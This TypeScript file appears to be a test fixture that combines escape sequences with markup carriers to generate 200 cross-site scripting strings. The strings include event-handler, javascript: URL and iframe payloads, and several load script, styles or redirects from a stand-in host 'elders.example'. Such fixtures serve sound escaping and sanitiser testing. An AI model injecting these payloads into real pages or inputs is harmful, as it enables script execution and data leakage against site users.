/** What closes whatever a text may have been put into without escaping. */
const endings = [
  "",
  `">`,
  `'>`,
  `" autofocus onfocus=ran() x="`,
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "--></noscript>",
  "]]>&gt;\u2028",
] as const;

/** What runs, or asks elsewhere, once it is markup. */
const carriers = [
  "<script>ran()</script>",
  "<img src=x onerror=ran()>",
  "<svg/onload=ran()>",
  "<svg><animate onbegin=ran() attributeName=x dur=1s>",
  "<body onload=ran()>",
  "<input autofocus onfocus=ran()>",
  "<details open ontoggle=ran()>",
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  "<iframe src=javascript:parent.ran()></iframe>",
  "<a href=javascript:ran()>hier</a>",
  "<form action=javascript:ran()><button autofocus>hier</button></form>",
  "<object data=javascript:ran()></object>",
  "<script src=//elders.example/x.js></script>",
  "<img src=https://elders.example/x.png>",
  "<link rel=stylesheet href=https://elders.example/x.css>",
  "<style>@import 'https://elders.example/y.css';</style>",
  "<meta http-equiv=refresh content='0;url=https://elders.example/'>",
  "<base href=https://elders.example/>",
  "[hier](javascript:ran()) ![x](https://elders.example/md.png) <https://elders.example/>",
  "javascript:ran()//{{ran()}}${ran()}%3Cscript%3Eran()%3C/script%3E&lt;script&gt;ran()&lt;/script&gt;",
] as const;

/** Two hundred texts that run or ask elsewhere wherever they are taken for markup. */
export const hostileStrings: readonly string[] = endings.flatMap((ending) =>
  carriers.map((carrier) => ending + carrier),
);

/** The texts in fields of ten: escaping looks at one character at a time. */
export const hostileFields: readonly string[] = Array.from({ length: hostileStrings.length / 10 }, (_, index) =>
  hostileStrings.slice(index * 10, index * 10 + 10).join(" "),
);
